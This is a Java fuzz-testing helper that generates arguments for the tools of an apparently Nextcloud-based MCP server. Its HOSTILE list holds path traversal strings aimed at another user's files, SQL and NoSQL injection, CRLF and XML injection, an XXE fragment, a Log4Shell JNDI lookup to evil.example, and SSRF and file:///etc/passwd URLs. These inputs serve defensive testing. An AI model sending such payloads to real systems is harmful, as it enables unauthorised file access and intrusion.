package org.nextcloudmcp.it;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.util.List;
import java.util.Random;

/**
 * Arguments for a tool, drawn from its input schema and beyond it. The same seed draws the same ones.
 *
 * @param random where they are drawn from
 * @param ids of things of the caller and of others
 * @param isWild whether some values are drawn from beyond the schema
 */
record FuzzedArguments(Random random, List<String> ids, boolean isWild) {
    private static final List<String> TEXTS = List.of(
            "tea",
            "Documents/Welcome.md",
            "Documents",
            "/",
            "Notes/Shopping.md",
            "personal",
            "contacts",
            "bob",
            "carol",
            "Grüße 👩‍👩‍👧",
            "2026-11-21",
            "2026-11-21T18:30:00Z",
            "2026-11-21 18:30",
            "PT30M",
            "https://recipes.example.org/pancakes",
            "FREQ=DAILY;COUNT=3",
            "ff0000",
            "text/plain",
            "thumbs",
            "👍",
            "100% #1?",
            "a/b");

    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            ".",
            "..",
            "../bob/bobs-secret.txt",
            "/../../bob/files/bobs-secret.txt",
            "Documents/../../bob/bobs-secret.txt",
            "..%2fbob%2fbobs-secret.txt",
            "%2e%2e/bob",
            "files/bob/bobs-secret.txt",
            "/remote.php/dav/files/bob/bobs-secret.txt",
            "..\\bob\\bobs-secret.txt",
            "bob/personal",
            "../bob/personal",
            "../../bob/personal/x.ics",
            "a\u0000b",
            "a\u0007\u001b[31mb",
            "line\r\nX-Injected: yes",
            "</d:href><d:href>/remote.php/dav/files/bob</d:href>",
            "]]>&xxe;",
            "'; DROP TABLE oc_users; --",
            "{\"$ne\":null}",
            "${jndi:ldap://evil.example/a}",
            "BEGIN:VCALENDAR\r\nEND:VCALENDAR",
            "\ud800",
            "\u202e\u2066",
            "-1",
            "1e999",
            "NaN",
            "http://127.0.0.1:1/",
            "file:///etc/passwd",
            "x".repeat(300),
            "ü".repeat(20_000));

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1",
            "2",
            "1.5",
            "1e3",
            "2147483647",
            "-2147483648",
            "2147483648",
            "9223372036854775807",
            "9223372036854775808",
            "1e400",
            "1e-400");

    JsonObject of(JsonObject schema) {
        JsonObjectBuilder arguments = Json.createObjectBuilder();
        List<String> required = names(schema.getJsonArray("required"));
        JsonObject properties =
                schema.getOrDefault("properties", JsonValue.EMPTY_JSON_OBJECT).asJsonObject();
        properties.forEach((name, property) -> {
            int chance = required.contains(name) ? isWild ? 92 : 100 : 45;
            if (random.nextInt(100) < chance) {
                arguments.add(name, value(name, property.asJsonObject()));
            }
        });
        if (isWild && random.nextInt(100) < 8) {
            arguments.add(pick(List.of("user_id", "__proto__", "extra", "path", "")), anything());
        }
        return arguments.build();
    }

    private static List<String> names(JsonArray list) {
        return list == null
                ? List.of()
                : list.getValuesAs(JsonString.class).stream()
                        .map(JsonString::getString)
                        .toList();
    }

    private JsonValue value(String name, JsonObject schema) {
        if (isWild && random.nextInt(100) < 12) {
            return anything();
        }
        if (schema.containsKey("enum")) {
            return pick(schema.getJsonArray("enum"));
        }
        return switch (schema.getString("type", "")) {
            case "string" -> Json.createValue(text(name, schema.getString("format", "")));
            case "integer", "number" -> number(name, schema);
            case "boolean" -> random.nextBoolean() ? JsonValue.TRUE : JsonValue.FALSE;
            case "array" -> list(name, schema);
            case "object" -> object(name, schema);
            default -> anything();
        };
    }

    private String text(String name, String format) {
        if (!format.isEmpty() && !isWild) {
            return switch (format) {
                case "date" -> "2026-11-2" + random.nextInt(10);
                case "date-time" -> "2026-11-2" + random.nextInt(10) + "T10:00:00+01:00";
                default -> "https://recipes.example.org/pancakes";
            };
        }
        boolean isId = name.matches("(.*_)?(id|uid|token|etag|name|addressbook)");
        if (isId && random.nextInt(3) > 0) {
            return pick(ids);
        }
        return pick(random.nextInt(100) < (isWild ? 60 : 25) ? HOSTILE : TEXTS);
    }

    private JsonValue number(String name, JsonObject schema) {
        if (isWild && random.nextInt(3) == 0) {
            return json(pick(NUMBERS));
        }
        List<String> numbers =
                ids.stream().filter(id -> id.matches("\\d{1,15}")).toList();
        if (name.matches("(.*_)?id") && !numbers.isEmpty() && random.nextInt(4) > 0) {
            return json(pick(numbers));
        }
        long least =
                schema.containsKey("minimum") ? schema.getJsonNumber("minimum").longValue() : 0;
        long most =
                schema.containsKey("maximum") ? schema.getJsonNumber("maximum").longValue() : least + 1000;
        long span = Math.max(1, Math.min(1000, most - Math.max(least, 0) + 1));
        return Json.createValue(Math.max(least, 0) + random.nextInt((int) span));
    }

    private JsonValue list(String name, JsonObject schema) {
        var list = Json.createArrayBuilder();
        for (int i = random.nextInt(4); i > 0; i--) {
            list.add(value(
                    name,
                    schema.getOrDefault("items", JsonValue.EMPTY_JSON_OBJECT).asJsonObject()));
        }
        return list.build();
    }

    private JsonValue object(String name, JsonObject schema) {
        if (schema.containsKey("properties")) {
            return of(schema);
        }
        var object = Json.createObjectBuilder();
        for (int i = random.nextInt(4); i > 0; i--) {
            String key = random.nextBoolean() ? pick(List.of("Name", "fn", "email", "note")) : pick(HOSTILE);
            object.add(key, random.nextBoolean() ? Json.createValue(text(name, "")) : anything());
        }
        return object.build();
    }

    private JsonValue anything() {
        return switch (random.nextInt(7)) {
            case 0 -> JsonValue.NULL;
            case 1 -> JsonValue.TRUE;
            case 2 -> json(pick(NUMBERS));
            case 3 -> Json.createArrayBuilder().add(pick(HOSTILE)).add(7).build();
            case 4 -> Json.createObjectBuilder().add(pick(HOSTILE), pick(TEXTS)).build();
            case 5 -> Json.createValue(pick(ids));
            default -> Json.createValue(pick(HOSTILE));
        };
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static JsonValue json(String number) {
        return Json.createValue(new java.math.BigDecimal(number));
    }
}
